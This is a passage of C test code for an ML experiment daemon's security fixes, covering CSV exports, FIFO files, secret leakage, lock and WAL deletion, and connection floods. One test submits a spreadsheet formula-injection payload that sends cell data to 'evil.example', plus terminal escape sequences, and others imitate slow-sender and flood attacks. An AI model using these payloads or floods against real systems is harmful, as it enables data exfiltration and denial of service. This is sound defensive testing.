        const char *path;
        long status;
    } others[] = {{"/healthz", 200},
                  {"/v1/status", 200},
                  {"/nope", 404},
                  {"/v1/export?format=csv", 200},
                  {"/ui/app.js", 200}};
    for (size_t i = 0; i < sizeof others / sizeof others[0]; i++) {
        tu_reply_t r = request(d, "GET", others[i].path, NULL, none, others[i].status);
        cr_expect(strcasestr(r.headers, "X-Content-Type-Options: nosniff"), "%s: %s",
                  others[i].path, r.headers);
        tu_reply_free(&r);
    }
    char *bad = raw_request(d, "BREW /pot HTCPCP/1.0\r\n\r\n", 2.0);
    cr_expect(!strncmp(bad, "HTTP/1.1 400", 12) && strcasestr(bad, "nosniff"), "%.300s", bad);
    free(bad);

    const char *json[] = {"Content-Type: application/json", NULL};
    static const char *const specs[] = {
        "{\"dataset\":\"tiny\",\"train\":{\"\xdd"
        "0_beta1\":0.9}}",
        "{\"dataset\":\"tiny\",\"model\":{\"mlp\":\"\xff\xfe\"}}",
    };
    for (size_t i = 0; i < 2; i++) {
        tu_reply_t r;
        tu_http_headers(d, "POST", "/v1/experiments", specs[i], strlen(specs[i]), json, &r);
        cr_expect(r.status == 400 || r.status == 422, "HTTP %ld: %s", r.status, r.body);
        cr_expect(tu_utf8_valid(r.body, r.len), "not UTF-8: %s", r.body);
        cJSON *j = cJSON_Parse(r.body);
        cr_expect(j, "not JSON: %s", r.body);
        cJSON_Delete(j);
        cr_expect(strstr(r.body, i ? "model.mlp" : "train.?0_beta1"), "%s", r.body);
        tu_reply_free(&r);
    }
    tu_server_stop(d, 20);
}

/* ------------------------------------------- requests whose client has gone */

/* Poll the daemon's stderr until it holds needle (at most timeout_s);
 * returns the log from there (caller frees) or NULL. */
static char *wait_log(const tu_server_t *d, const char *needle, double timeout_s) {
    for (double t0 = tu_now(); tu_now() - t0 < timeout_s; tu_sleep_ms(50)) {
        char *log = tu_read(d->errlog), *at = log ? strstr(log, needle) : NULL;
        if (at) {
            char *copy = strdup(at);
            free(log);
            return copy;
        }
        free(log);
    }
    return NULL;
}

/* A client that starts an export and goes away after the first bytes stops
 * it: nothing more is read or formatted. One that sends five submissions in
 * a row and closes before reading an answer gets only the one the daemon was
 * answering when it left. Before, both were served to the end. */
Test(guard, requests_whose_client_has_gone_are_not_served) {
    long n = 20000;
    fill_experiments(n);
    tu_server_t *d = daemon_start(NULL);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)d->port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cr_assert(connect(fd, (struct sockaddr *)&a, sizeof a) == 0);
    const char *get = "GET /v1/export?format=jsonl HTTP/1.1\r\nHost: localhost\r\n\r\n";
    cr_assert_eq(write(fd, get, strlen(get)), (ssize_t)strlen(get));
    char buf[65536];
    size_t got = 0;
    while (got < sizeof buf - 1 && tu_read_some(fd, buf, &got, sizeof buf)) {
    }
    close(fd);
    char *log = wait_log(d, "export: the client went away after ", 20);
    cr_assert(log, "no word that the export stopped");
    long sent = atol(log + strlen("export: the client went away after "));
    cr_expect(sent > 0 && sent < n, "the export went on to %ld of %ld experiments", sent, n);
    free(log);

    /* five submissions in one write, then gone */
    char *batch = calloc(1, 16384);
    for (int i = 0; i < 5; i++) {
        char *s = spec("ok", 100 + i, 1);
        size_t k = strlen(batch);
        snprintf(batch + k, 16384 - k,
                 "POST /v1/experiments HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                 "application/json\r\nContent-Length: %zu\r\n\r\n%s",
                 strlen(s), s);
        free(s);
    }
    fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    cr_assert(connect(fd, (struct sockaddr *)&a, sizeof a) == 0);
    /* The daemon is stopped meanwhile, so the client has gone before the
     * daemon reads a byte, however loaded the machine (before, a test
     * thread slow to close could be answered all five). */
    cr_assert_eq(kill(d->pid, SIGSTOP), 0);
    cr_assert_eq(write(fd, batch, strlen(batch)), (ssize_t)strlen(batch));
    close(fd);
    cr_assert_eq(kill(d->pid, SIGCONT), 0);
    free(batch);
    tu_sleep_ms(1000);
    cJSON *list = tu_get_json(d, "/v1/experiments?status=queued&limit=1000");
    int queued = cJSON_GetArraySize(cJSON_GetObjectItem(list, "experiments"));
    cJSON_Delete(list);
    list = tu_get_json(d, "/v1/experiments?order=-id&limit=10");
    int recent = 0;
    cJSON *e;
    cJSON_ArrayForEach(e, cJSON_GetObjectItem(list, "experiments")) recent += tu_jnum(e, "id") > n;
    cJSON_Delete(list);
    cr_expect_eq(recent, 1,
                 "%d of five pipelined submissions ran after the client left (%d queued)", recent,
                 queued);
    tu_server_stop(d, 20);
}

/* ---------------------------------------- finding 10: exports a sheet opens */

/* Names that a spreadsheet would run as formulas (=HYPERLINK(...), +, -, @)
 * and that carry terminal escapes (ESC, BEL, a C1 CSI) come out of the CSV,
 * TSV and results.tsv exports with a leading quote and with '?' for each
 * control character; a real CSV parser still reads every row; JSON lines
 * keep the names exactly (escaped as JSON). */
Test(guard, exports_neutralise_formulas_and_control_bytes) {
    tu_server_t *d = daemon_start(NULL);
    static const char *const names[] = {
        "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "red \\u001b[31malert\\u0007 \\u009b2J",
        "plain, with a comma"};
    enum { N = sizeof names / sizeof *names };
    for (int i = 0; i < N; i++) {
        char *s = spec("ok", 200 + i, 1);
        char *named = tu_path("{\"name\":\"%s\",%s", names[i], strstr(s, "\"dataset\""));
        cJSON_Delete(tu_http_json(d, "POST", "/v1/experiments", named, 201));
        free(named), free(s);
    }
    /* The stand-in takes its mode from the name, knows none of these, and
     * fails each run: their names still reach every export. */
    for (double t0 = tu_now();; tu_sleep_ms(50)) {
        cJSON *l = tu_get_json(d, "/v1/experiments?status=failed");
        int done = cJSON_GetArraySize(cJSON_GetObjectItem(l, "experiments"));
        cJSON_Delete(l);
        if (done == N) break;
        cr_assert(tu_now() - t0 < 60, "%d of %d runs ended", done, N);
    }
    const char *fmts[] = {"csv", "tsv", "results-tsv", "jsonl"};
    char *text[4];
    for (int f = 0; f < 4; f++) {
        char path[64];
        snprintf(path, sizeof path, "/v1/export?format=%s", fmts[f]);
        tu_reply_t r;
        tu_http(d, "GET", path, NULL, 0, NULL, &r);
        cr_assert_eq(r.status, 200, "%s: %ld", path, r.status);
        text[f] = r.body;
        if (f == 3) continue;
        for (const unsigned char *p = (const unsigned char *)r.body; *p; p++) {
            int ok = *p >= 0x20 || *p == '\n' || *p == '\t';
            cr_expect(ok && *p != 0x7f && !(p[0] == 0xc2 && p[1] >= 0x80 && p[1] < 0xa0),
                      "%s: control byte 0x%02x at offset %td", fmts[f], *p,
                      (const char *)p - r.body);
        }
        cr_expect(!strstr(r.body, "\t=") && !strstr(r.body, ",=") && !strstr(r.body, "\n="),
                  "%s: a cell starts with '=':\n%s", fmts[f], r.body);
        cr_expect(strstr(r.body, "'=HYPERLINK(") && strstr(r.body, "'+1+1") &&
                      strstr(r.body, "'-2+3") && strstr(r.body, "'@SUM(A1:A9)") &&
                      strstr(r.body, "red ?[31malert? ?2J"),
                  "%s:\n%s", fmts[f], r.body);
    }
    /* CSV: Python's csv module reads N rows of the same width; the name
     * column holds the neutralised text. */
    char *file = tu_path("%s/x.csv", tmp);
    tu_write(file, text[0]);
    char *script = "import csv,sys\n"
                   "rows=list(csv.DictReader(open(sys.argv[1],newline='')))\n"
                   "assert len({len(r) for r in rows})==1, rows\n"
                   "print(len(rows)); print('|'.join(sorted(r['name'] for r in rows)))\n";
    char *const argv[] = {"/usr/bin/python3", "-c", script, file, NULL};
    tu_run_t pr;
    tu_run(&pr, argv, 20);
    cr_expect_eq(pr.exit_code, 0, "%s", pr.err);
    cr_expect(strstr(pr.out, "6\n") == pr.out, "%s", pr.out);
    cr_expect(strstr(pr.out, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), "%s", pr.out);
    tu_run_free(&pr);
    /* JSON lines: the names exactly, escaped */
    cr_expect(strstr(text[3], "\"name\":\"=HYPERLINK("), "%s", text[3]);
    cr_expect(strstr(text[3], "\\u001b[31malert\\u0007"), "%s", text[3]);
    for (int f = 0; f < 4; f++) free(text[f]);
    free(file);
    tu_server_stop(d, 20);
}

/* ------------------------------------------------ finding 8: special files */

/* A FIFO as a dataset's manifest (or its token file) is refused before it is
 * opened: a submission gets 400 at once and the loop goes on; the trainer
 * itself stops with the reason instead of waiting for a writer. Before, the
 * open blocked the daemon's loop for good. */
Test(guard, special_files_are_refused_before_they_are_opened) {
    char *dir = tu_path("%s/datasets/fifo", state), *manifest = tu_path("%s/manifest.json", dir);
    cr_assert_eq(mkdir(dir, 0755), 0);
    cr_assert_eq(mkfifo(manifest, 0644), 0);
    tu_server_t *d = daemon_start(NULL);
    char *s = spec("ok", 1, 1);
    char *on_fifo = tu_path("{\"dataset\":\"fifo\",%s", strstr(s, "\"seed\""));
    tu_reply_t r;
    tu_http(d, "POST", "/v1/experiments", on_fifo, strlen(on_fifo), NULL, &r);
    cr_expect_eq(r.status, 400, "%ld %s", r.status, r.body);
    cr_expect(strstr(r.body, "not a regular file"), "%s", r.body);
    cr_expect_lt(r.seconds, 2.0);
    tu_reply_free(&r);
    cJSON_Delete(tu_get_json(d, "/healthz"));
    tu_server_stop(d, 20);

    /* the trainer: a FIFO manifest, then a FIFO in place of the token file */
    char *spec_file = tu_path("%s/fifo.json", tmp);
    tu_write(spec_file, on_fifo);
    tu_run_t t;
    tu_run_bin(&t, 20, "train", "--dir", state, spec_file, NULL);
    cr_expect(t.exit_code != 0 && strstr(t.err, "not a regular file"), "exit %d: %s", t.exit_code,
              t.err);
    tu_run_free(&t);
    char *train = tu_path("%s/datasets/tiny/train.bin", state);
    cr_assert_eq(unlink(train), 0);
    cr_assert_eq(mkfifo(train, 0644), 0);
    char *tiny_file = tu_path("%s/tiny.json", tmp);
    tu_write(tiny_file, s);
    tu_run_bin(&t, 20, "train", "--dir", state, tiny_file, NULL);
    cr_expect(t.exit_code != 0 && strstr(t.err, "not a regular file"), "exit %d: %s", t.exit_code,
              t.err);
    tu_run_free(&t);
    free(dir), free(manifest), free(s), free(on_fifo), free(spec_file), free(train),
        free(tiny_file);
}

/* --------------------------------------- finding 9: seeds and thread counts */

/* The seed's text in the reply to GET /v1/experiments/{id}: as the daemon
 * wrote it, not as a double read it back. */
static void expect_seed_text(const tu_server_t *d, long id, const char *want) {
    char path[64], needle[64];
    snprintf(path, sizeof path, "/v1/experiments/%ld", id);
    snprintf(needle, sizeof needle, "\"seed\":%s,", want);
    tu_reply_t r;
    tu_http(d, "GET", path, NULL, 0, NULL, &r);
    cr_expect(strstr(r.body, needle), "experiment %ld: no %s in %.400s", id, needle, r.body);
    tu_reply_free(&r);
}

/* Seeds are exact integers up to 2^53 - 1: 8999999999999999 runs as itself
 * (it ran as 9000000000000000), neighbouring seeds are five experiments (they
 * were deduplicated into one), 2^53 is refused (it was accepted). A spec's
 * resources.threads may not exceed a slot (1024 was accepted on two CPUs). */
Test(guard, seeds_are_exact_and_threads_fit_the_slot) {
    tu_server_t *d = daemon_start(NULL);
    char *s = spec("ok", 1, 1), *rest = strstr(s, "\"time_budget_s\"");
    long ids[5];
    for (int i = 0; i < 5; i++) {
        char *one = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":%lld,%s",
                            8999999999999997LL + i, rest);
        cJSON *o = tu_http_json(d, "POST", "/v1/experiments", one, 201);
        ids[i] = (long)tu_jnum(o, "id");
        cr_expect(cJSON_IsFalse(cJSON_GetObjectItem(o, "duplicate")), "seed %lld deduplicated",
                  8999999999999997LL + i);
        cJSON_Delete(o);
        free(one);
    }
    for (int i = 0; i < 5; i++) {
        char want[32];
        snprintf(want, sizeof want, "%lld", 8999999999999997LL + i);
        expect_seed_text(d, ids[i], want);
    }
    char *db_path = tu_path("%s/nightshift.db", state);
    sqlite3 *db = tu_db_open(db_path);
    free(db_path);
    cr_expect_eq(tu_sql_int(db, "SELECT seed FROM experiments WHERE id = ?1", ids[2]),
                 8999999999999999LL);
    cr_expect_eq(tu_sql_int(db,
                            "SELECT json_extract(spec, '$.seed') FROM experiments WHERE id = ?1",
                            ids[2]),
                 8999999999999999LL);
    sqlite3_close(db);
    /* the largest, and one past it */
    char *max = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740991,%s", rest);
    cJSON *o = tu_http_json(d, "POST", "/v1/experiments", max, 201);
    expect_seed_text(d, (long)tu_jnum(o, "id"), "9007199254740991");
    cJSON_Delete(o);
    char *over =
        tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740992,%s", rest);
    tu_reply_t r;
    tu_http(d, "POST", "/v1/experiments", over, strlen(over), NULL, &r);
    cr_expect_eq(r.status, 400, "seed 2^53: %ld %s", r.status, r.body);
    cr_expect(strstr(r.body, "seed"), "%s", r.body);
    tu_reply_free(&r);
    /* repeats near the top: three distinct seeds, the last one 2^53 - 1 */
    char *near =
        tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740989,%s", rest);
    o = tu_http_json(d, "POST", "/v1/experiments?repeats=3", near, 201);
    const cJSON *items = cJSON_GetObjectItem(o, "experiments");
    cr_expect_eq(cJSON_GetArraySize(items), 3);
    expect_seed_text(d, (long)tu_jnum(cJSON_GetArrayItem(items, 2), "id"), "9007199254740991");
    cr_expect(cJSON_IsTrue(cJSON_GetObjectItem(cJSON_GetArrayItem(items, 2), "duplicate")),
              "seed 2^53 - 1 is the one queued above");
    cJSON_Delete(o);

    /* threads: at most a slot's */
    char *many = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":7,\"time_budget_s\":1,"
                         "\"resources\":{\"threads\":1024}}");
    tu_http(d, "POST", "/v1/experiments", many, strlen(many), NULL, &r);
    cr_expect_eq(r.status, 400, "threads 1024: %ld %s", r.status, r.body);
    cr_expect(strstr(r.body, "resources.threads: 1024"), "%s", r.body);
    tu_reply_free(&r);
    cJSON *st = tu_get_json(d, "/v1/status");
    int slot_threads =
        (int)tu_jnum(cJSON_GetArrayItem(cJSON_GetObjectItem(st, "slots"), 0), "threads");
    cJSON_Delete(st);
    char *fits = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":8,\"time_budget_s\":1,"
                         "\"resources\":{\"threads\":%d}}",
                         slot_threads);
    cJSON_Delete(tu_http_json(d, "POST", "/v1/experiments", fits, 201));
    tu_server_stop(d, 20);
    free(s), free(max), free(over), free(near), free(many), free(fits);
}

/* ------------------------------------- finding 2: memory limits that fail fast */

/* A daemon running the real engine (no stand-in worker), one slot. */
static tu_server_t *engine_daemon(const char *memory_mb) {
    cr_assert(n_daemons < MAX_DAEMONS);
    tu_server_t *d = &daemons[n_daemons];
    char *errlog = tu_path("%s/daemon-%d.err", tmp, n_daemons);
    char *argv[] = {(char *)tu_bin(), "serve",       "--dir",           state, "--listen",
                    "127.0.0.1:0",    "--memory-mb", (char *)memory_mb, NULL};
    n_daemons++;
    tu_server_start(d, "daemon", argv, errlog, 30);
    free(errlog);
    return d;
}

/* The tiny spec on two threads with resources.memory_mb mb (0: none). */
static char *mem_spec(int seed, int mb) {
    return tu_path("{\"name\":\"m\",\"dataset\":\"tiny\",\"seed\":%d,\"time_budget_s\":1,"
                   "\"model\":{\"depth\":1,\"n_embd\":32,\"n_head\":2,\"seq_len\":32},"
                   "\"train\":{\"batch_size\":4,\"total_batch_tokens\":128},"
                   "\"resources\":{\"threads\":2,\"peak_gflops\":10,\"memory_mb\":%d}}",
                   seed, mb);
}

/* A worker's memory limit limits address space, and the engine maps some
 * 320 MiB a thread (OpenBLAS's buffers, stacks, malloc arenas) before a run
 * allocates anything: a limit below that hung until the deadline (3,600 s
 * for a token budget) and submission accepted it. Now submission adds that
 * floor, measured at start, to the run's own needs and refuses with the
 * numbers; a limit of what it says a run needs is enough to run it; and a
 * run that meets a limit too low anyway (the trainer under it by hand) exits
 * out of memory within seconds. */
Test(guard, memory_limits_count_the_engines_floor_and_fail_fast) {
#if defined(__SANITIZE_ADDRESS__)
    cr_skip_test("a sanitizer build's workers cannot run under an address-space limit");
#endif
    tu_server_t *d = engine_daemon("0");
    char *log = wait_log(d, "the engine maps ", 5);
    cr_expect(log, "no floor measured at start");
    free(log);
    char *low = mem_spec(1, 300);
    tu_reply_t r;
    tu_http(d, "POST", "/v1/experiments", low, strlen(low), NULL, &r);
    cr_expect_eq(r.status, 422, "300 MiB: %ld %s", r.status, r.body);
    cr_expect(strstr(r.body, "does_not_fit") && strstr(r.body, "address space the engine maps") &&
                  strstr(r.body, "this run needs about"),
              "%s", r.body);
    const char *about = strstr(r.body, "this run needs about ");
    int need = about ? atoi(about + strlen("this run needs about ")) : 0;
    tu_reply_free(&r);
    cr_assert_gt(need, 300, "the refusal's numbers: %d MiB", need);
    /* It is the least that admission takes (rounded up to a MiB), and what
     * a run needs under the limit: with the margin, a spec accepted at its
     * edge trains (without it, elsewhere, one ended oom at once). */
    char *under = mem_spec(2, need - 1);
    tu_http(d, "POST", "/v1/experiments", under, strlen(under), NULL, &r);
    cr_expect_eq(r.status, 422, "%d MiB: %ld %s", need - 1, r.status, r.body);
    cr_expect(strstr(r.body, "and a margin of "), "%s", r.body);
    tu_reply_free(&r);
    free(under);
    char *enough = mem_spec(2, need);
    cJSON *o = tu_http_json(d, "POST", "/v1/experiments", enough, 201);
    long id = (long)tu_jnum(o, "id");
    cJSON_Delete(o);
    char path[64], buf[32];
    snprintf(path, sizeof path, "/v1/experiments/%ld", id);
    for (double t0 = tu_now(); strcmp(status_of(d, id, buf, sizeof buf), "succeeded");
         tu_sleep_ms(100)) {
        cr_assert(strcmp(buf, "queued") == 0 || strcmp(buf, "running") == 0,
                  "under %d MiB the run ended %s", need, buf);
        cr_assert(tu_now() - t0 < 60, "the run under %d MiB is still %s", need, buf);
    }
    free(enough);
    tu_server_stop(d, 20);

    /* A daemon limit below the floor: said at start, and every run refused. */
    d = engine_daemon("300");
    log = wait_log(d, "--memory-mb 300 is below the ", 5);
    cr_expect(log, "no warning at start");
    free(log);
    char *none = mem_spec(3, 0);
    tu_http(d, "POST", "/v1/experiments", none, strlen(none), NULL, &r);
    cr_expect_eq(r.status, 422, "%ld %s", r.status, r.body);
    cr_expect(strstr(r.body, "the daemon's limit per worker 300 MiB"), "%s", r.body);
    tu_reply_free(&r);
    tu_server_stop(d, 20);
    /* The trainer under too low a limit: out of memory in seconds, not a hang. */
    char *spec_file = tu_path("%s/low.json", tmp);
    tu_write(spec_file, none);
    double t0 = tu_now();
    tu_run_t t;
    tu_run_bin(&t, 60, "exec-limited", "--memory-mb", "500", "--", tu_bin(), "train", "--dir",
               state, spec_file, NULL);
    double took = tu_now() - t0;
    cr_expect_eq(t.exit_code, 4, "exit %d after %.1f s: %s", t.exit_code, took, t.err);
    cr_expect(strstr(t.err, "out of memory"), "%s", t.err);
    cr_expect_lt(took, 15, "%.1f s to give up", took);
    tu_run_free(&t);
    free(spec_file);
    free(low), free(none);
}

/* --------------------------------------------- finding 7: secrets stay home */

/* The daemon's secrets reach no worker: not the API token, not the agent's
 * key (it did, when it came from NIGHTSHIFT_AGENT_SECRET), not a Slurm JWT. */
Test(guard, secrets_never_reach_a_worker) {
    setenv("NIGHTSHIFT_TOKEN", "tok-3141", 1);
    setenv("NIGHTSHIFT_AGENT_SECRET", "sec-2718", 1);
    setenv("SLURM_JWT", "jwt-1618", 1);
    const char *extra[] = {"--agent-url", "http://127.0.0.1:9/hook", NULL};
    tu_server_t *d = daemon_start(extra);
    unsetenv("NIGHTSHIFT_TOKEN");
    unsetenv("NIGHTSHIFT_AGENT_SECRET");
    unsetenv("SLURM_JWT");
    char *s = spec("env", 1, 1);
    tu_reply_t r;
    tu_http(d, "POST", "/v1/experiments", s, strlen(s), "Bearer tok-3141", &r);
    cr_assert_eq(r.status, 201, "%ld %s", r.status, r.body);
    cJSON *o = cJSON_Parse(r.body);
    long id = (long)tu_jnum(o, "id");
    cJSON_Delete(o);
    tu_reply_free(&r);
    char buf[32];
    for (double t0 = tu_now(); strcmp(status_of(d, id, buf, sizeof buf), "succeeded");
         tu_sleep_ms(50))
        cr_assert(tu_now() - t0 < 30 && (!strcmp(buf, "queued") || !strcmp(buf, "running")),
                  "the env run is %s", buf);
    char path[64];
    snprintf(path, sizeof path, "/v1/experiments/%ld/log", id);
    tu_http(d, "GET", path, NULL, 0, NULL, &r);
    cr_expect(strstr(r.body, "\"NIGHTSHIFT_TOKEN\":\"\",\"NIGHTSHIFT_AGENT_SECRET\":\"\","
                             "\"SLURM_JWT\":\"\""),
              "the worker's environment: %s", r.body);
    cr_expect(!strstr(r.body, "3141") && !strstr(r.body, "2718") && !strstr(r.body, "1618"), "%s",
              r.body);
    tu_reply_free(&r);
    tu_server_stop(d, 20);
    free(s);
}

/* --------------------------------- findings 4 and 5: the lock and the WAL */

/* Deleting nightshift.lock under a running daemon let a second one start on
 * the same directory; it re-queued the first one's running experiment and
 * ran it again in the same run directory. The directory itself is locked. */
Test(guard, deleting_the_lock_file_lets_no_second_daemon_in) {
    tu_server_t *d = daemon_start(NULL);
    char *s = spec("hang", 1, 60);
    cJSON *o = tu_http_json(d, "POST", "/v1/experiments", s, 201);
    long id = (long)tu_jnum(o, "id");
    cJSON_Delete(o);
    char buf[32];
    for (double t0 = tu_now(); strcmp(status_of(d, id, buf, sizeof buf), "running");
         tu_sleep_ms(20))
        cr_assert(tu_now() - t0 < 20, "experiment %ld is %s", id, buf);
    char *lock = tu_path("%s/nightshift.lock", state);
    cr_assert_eq(unlink(lock), 0);
    tu_run_t r;
    char *cmd = tu_path("%s from-spec", tu_bad_worker());
    tu_run_bin(&r, 20, "serve", "--dir", state, "--listen", "127.0.0.1:0", "--memory-mb", "0",
               "--worker-cmd", cmd, NULL);
    cr_expect(r.exit_code != 0, "a second daemon started on the directory: %s", r.err);
    cr_expect(strstr(r.err, "another nightshift daemon is using"), "%s", r.err);
    tu_run_free(&r);
    o = tu_get_json(d, "/v1/experiments/1");
    cr_expect_str_eq(tu_jstr(o, "status"), "running");
    cr_expect_eq((long)tu_jnum(o, "attempt"), 1, "the run was re-queued");
    cJSON_Delete(o);
    tu_server_stop(d, 20);
    free(s), free(lock), free(cmd);
}

/* Deleting the WAL under a running daemon went unnoticed: a crash after it
 * lost experiments already acknowledged with 201, their ids were given
 * again, and a new run appended to an old run's train.log. Now what was
 * committed is copied into the database at once and a new WAL opened. */
Test(guard, a_deleted_wal_loses_nothing_acknowledged) {
    tu_server_t *d = daemon_start(NULL);
    long ids[4];
    char *wal = tu_path("%s/nightshift.db-wal", state);
    for (int i = 0; i < 4; i++) {
        if (i == 2) {
            cr_assert_eq(unlink(wal), 0, "no WAL to delete");
        }
        char *s = spec("ok", 10 + i, 1);
        cJSON *o = tu_http_json(d, "POST", "/v1/experiments", s, 201);
        ids[i] = (long)tu_jnum(o, "id");
        cJSON_Delete(o);
        free(s);
    }
    char *log = wait_log(d, "was deleted under the daemon", 10);
    cr_expect(log, "the deleted WAL went unnoticed");
    free(log);
    tu_server_kill(d);
    d = daemon_start(NULL);
    for (int i = 0; i < 4; i++) {
        char path[64];
        snprintf(path, sizeof path, "/v1/experiments/%ld", ids[i]);
        tu_reply_t r;
        tu_http(d, "GET", path, NULL, 0, NULL, &r);
        cr_expect_eq(r.status, 200, "experiment %ld, acknowledged, is gone after the crash",
                     ids[i]);
        tu_reply_free(&r);
    }
    char *s = spec("ok", 20, 1);
    cJSON *o = tu_http_json(d, "POST", "/v1/experiments", s, 201);
    cr_expect_gt((long)tu_jnum(o, "id"), ids[3], "an id was given again");
    cJSON_Delete(o);
    tu_server_stop(d, 20);
    free(s), free(wal);
}

/* ---------------------------------------- finding 6: idle and slow clients */

/* A connection from source address src (a loopback one) to the daemon. */
static int connect_from(const tu_server_t *d, const char *src) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET};
    inet_pton(AF_INET, src, &from.sin_addr);
    to.sin_port = htons((uint16_t)d->port);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cr_assert(fd >= 0 && bind(fd, (struct sockaddr *)&from, sizeof from) == 0 &&
                  connect(fd, (struct sockaddr *)&to, sizeof to) == 0,
              "connect from %s: %s", src, strerror(errno));
    return fd;
}

/* 32 event streams that never read took every place, and a dashboard got
 * 503 for good; now a new stream takes the place of the one furthest
 * behind, and receives events. Connections that send their headers a byte
 * at a time, from several 127.x addresses, took every connection the server
 * had (64 per address, 256 in all); now every loopback address is one client
 * and a slow sender gives its place up after a second. */
Test(guard, idle_readers_and_slow_senders_lock_nobody_out) {
    tu_server_t *d = daemon_start(NULL);
    enum { STREAMS = 32, SLOW = 256 };
    int streams[STREAMS], slow[SLOW];
    for (int i = 0; i < STREAMS; i++) {
        streams[i] = connect_from(d, "127.0.0.1");
        const char *get = "GET /v1/events/stream HTTP/1.1\r\nHost: localhost\r\n\r\n";
        cr_assert_eq(write(streams[i], get, strlen(get)), (ssize_t)strlen(get));
    }
    tu_sleep_ms(300);
    tu_reply_t r;
    char *dash = raw_request(d, "GET /v1/events/stream HTTP/1.1\r\nHost: localhost\r\n\r\n", 1.0);
    cr_expect(!strncmp(dash, "HTTP/1.1 200", 12) && strstr(dash, "retry:"),
              "a dashboard's stream with 32 idle readers open: %.200s", dash);
    free(dash);
    for (int i = 0; i < STREAMS; i++) close(streams[i]);

    /* headers a byte at a time, from four loopback addresses */
    const char *from[] = {"127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"};
    for (int i = 0; i < SLOW; i++) {
        slow[i] = connect_from(d, from[i % 4]);
        cr_assert_eq(write(slow[i], "GET / HT", 8), 8);
    }
    tu_sleep_ms(1500);
    tu_http(d, "GET", "/healthz", NULL, 0, NULL, &r);
    cr_expect_eq(r.status, 200, "a client among %d slow senders: %ld %s", SLOW, r.status, r.body);
    tu_reply_free(&r);
    for (int i = 0; i < SLOW; i++) close(slow[i]);
    tu_server_stop(d, 20);
}

/* ---------------------------------------- a connection flood (issue 36) */

/* 300 connections from this machine, each with a request begun, and 20
 * ordinary requests made meanwhile: all of loopback was one client capped
 * at 64 connections, so the ordinary requests got 503 (or, a second on,
 * pushed out connections that were sending their requests). Now loopback
 * shares the server's cap (4096), so every ordinary request is answered and
 * every one of the 300 finishes its request and is answered too. */
Test(guard, a_flood_of_connections_locks_nobody_out) {
    tu_server_t *d = daemon_start(NULL);
    enum { FLOOD = 300, ORDINARY = 20 };
    int *fds = calloc(FLOOD, sizeof *fds);
    for (int i = 0; i < FLOOD; i++) {
        fds[i] = connect_from(d, "127.0.0.1");
        const char *begun = "GET /healthz HTTP/1.1\r\nHost: localhost\r\n";
        cr_assert_eq(write(fds[i], begun, strlen(begun)), (ssize_t)strlen(begun));
    }
    int ok = 0;
    for (int i = 0; i < ORDINARY; i++) {
        tu_reply_t r;
        tu_http(d, "GET", "/v1/status", NULL, 0, NULL, &r);
        ok += r.status == 200;
        if (r.status != 200) cr_log_warn("an ordinary request: HTTP %ld %.200s", r.status, r.body);
        tu_reply_free(&r);
    }
    cr_expect_eq(ok, ORDINARY, "%d of %d ordinary requests answered among %d connections", ok,
                 ORDINARY, FLOOD);
    int finished = 0;
    for (int i = 0; i < FLOOD; i++) {
        char buf[4096] = "";
        size_t got = 0;
        if (write(fds[i], "\r\n", 2) == 2) {
            for (double t0 = tu_now(); tu_now() - t0 < 5 && got < 12;) {
                struct pollfd p = {fds[i], POLLIN, 0};
                if (poll(&p, 1, 100) > 0 && !tu_read_some(fds[i], buf, &got, sizeof buf)) break;
            }
        }
        finished += !strncmp(buf, "HTTP/1.1 200", 12);
        close(fds[i]);
    }
    cr_expect_eq(finished, FLOOD, "%d of %d flooding connections were answered", finished, FLOOD);
    free(fds);
    tu_server_stop(d, 20);
}
